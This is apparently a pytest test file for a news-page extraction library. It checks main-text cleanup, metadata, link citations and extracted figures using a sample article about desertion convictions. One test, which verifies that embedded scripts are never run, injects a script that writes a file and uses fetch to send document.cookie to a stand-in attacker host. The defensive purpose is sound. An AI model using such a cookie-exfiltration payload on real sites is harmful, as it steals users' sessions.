"""Issue 17: a saved news page written for the project: the main text without navigation, cookie
banner, adverts, related links and footer; the metadata; the links in the text as citations."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest

from figuregraph.extract import Lexicon, extract_document
from figuregraph.extract.lexicon import SourceEntry
from figuregraph.extract.reading import read

from .makers import CANONICAL, MINISTRY_URL, OUTLET_URL, news_page


@pytest.fixture()
def page(tmp_path: Path) -> Path:
    path = tmp_path / "article.html"
    path.write_text(news_page(), encoding="utf-8")
    return path


def test_main_text_and_metadata(page: Path) -> None:
    doc = read(page)
    assert doc.format == "html" and doc.converter.startswith("figuregraph-html ") and "trafilatura" in doc.converter
    meta = doc.metadata
    assert meta.title == "Courts record 684 desertion convictions in March"
    assert meta.publisher == "Baltic Ledger" and meta.authors == ("Anna Kowalska",)
    assert meta.published == "2024-04-24" and meta.url == CANONICAL and meta.language == "en-GB"
    for boilerplate in ("Top 10", "cookies", "Accept all", "40 %", "Related", "protesters", "12 %", "employees",
                        "999 000", "document.write", "position: fixed"):
        assert boilerplate not in doc.text, boilerplate
    assert "convicted 684 soldiers of desertion in March" in doc.text
    assert [(doc.text[k.start:k.end], k.href) for k in doc.links] == [("Ministry of Defence", MINISTRY_URL),
                                                                       ("Mediazona", OUTLET_URL)]


def test_links_are_citations_of_their_sentence(page: Path, lexicon: Lexicon) -> None:
    known = "mediazona-2024-04-desertion-data"
    lexicon = replace(lexicon, sources=[*lexicon.sources, SourceEntry(  # the module's lexicon is left as it is
        known, "Mediazona on desertion", "Desertion", "2024-04-20", "mediazona", (),
        OUTLET_URL.replace("https://", "http://www.") + "/")])  # matched by URL
    doc = read(page)
    ex = extract_document(doc, lexicon=lexicon)
    assert [(f.wording, f.value) for f in ex.figures] == [("684", Decimal(684)), ("7 400", Decimal(7400)),
                                                          ("496", Decimal(496))]  # none from the boilerplate
    assert ex.figures[0].citations[:2] == ["link-1", "link-2"]  # both links sit in its sentence
    assert not any(k.startswith("link-") for f in ex.figures[1:] for k in f.citations)
    ministry, outlet = ex.sources["link-1"], ex.sources["link-2"]
    assert ministry.new and ministry.url == MINISTRY_URL and ministry.kind == "web-page"
    assert ministry.publisher_name == "Ministry of Defence"
    assert not outlet.new and outlet.id == known
    notes = {n.number: n for n in ex.footnotes}
    assert notes["link-1"].text == f"Ministry of Defence <{MINISTRY_URL}>" and notes["link-1"].url
    assert ex.figures[0].reporter == "uk-ministry-of-defence"
    assert all(doc.text[f.start:f.end] == f.quote for f in ex.figures)


def test_a_link_target_not_in_the_graph_is_proposed_with_its_date(page: Path, lexicon: Lexicon) -> None:
    ex = extract_document(read(page), lexicon=lexicon)
    outlet = ex.sources["link-2"]
    assert outlet.new and outlet.publisher == "mediazona" and outlet.published == "2024-04-20"
    assert outlet.url == OUTLET_URL


def test_scripts_are_data_never_run(tmp_path: Path) -> None:
    path = tmp_path / "hostile.html"
    marker = tmp_path / "ran"
    hostile = f"require('fs').writeFileSync('{marker}', 'x'); fetch('https://attacker.example/?' + document.cookie);"
    path.write_text(news_page(hostile).replace("<p>Analysts", f"<script>{hostile}</script><p>Analysts"),
                    encoding="utf-8")
    doc = read(path)
    assert not marker.exists() and "attacker" not in doc.text and "writeFileSync" not in doc.text
    clean = tmp_path / "clean.html"
    clean.write_text(news_page(), encoding="utf-8")
    assert doc.text == read(clean).text  # the scripts left nothing in the text


def test_json_ld_alone_gives_the_metadata(tmp_path: Path) -> None:
    import re

    page = re.sub(r'<meta property="(?:og|article):[^>]*>\n', "", news_page())
    page = page.replace('<link rel="canonical"', '<link rel="alternate"').replace(
        '<p class="byline">By Anna Kowalska</p>', "").replace(" | Baltic Ledger</title>", "</title>")
    assert "og:" not in page and "published_time" not in page and "Anna" not in page.split("ld+json")[0]
    path = tmp_path / "ld.html"
    path.write_text(page, encoding="utf-8")
    meta = read(path).metadata
    assert (meta.publisher, meta.authors, meta.published) == ("Baltic Ledger", ("Anna Kowalska",), "2024-04-24")
    assert meta.url is None
    assert read(path, url="https://balticledger.example/saved").metadata.url == "https://balticledger.example/saved"


def test_a_year_in_the_prose_is_not_the_page_date(tmp_path: Path) -> None:
    path = tmp_path / "undated.html"
    path.write_text("<html><head><title>Convictions</title></head><body><article><p>The ministry said 684 "
                    "soldiers were convicted of desertion in March 2024, up from 2023.</p></article></body></html>",
                    encoding="utf-8")
    doc = read(path)
    assert doc.metadata.title == "Convictions" and doc.metadata.published is None  # no markup gives a date
    assert "684 soldiers" in doc.text
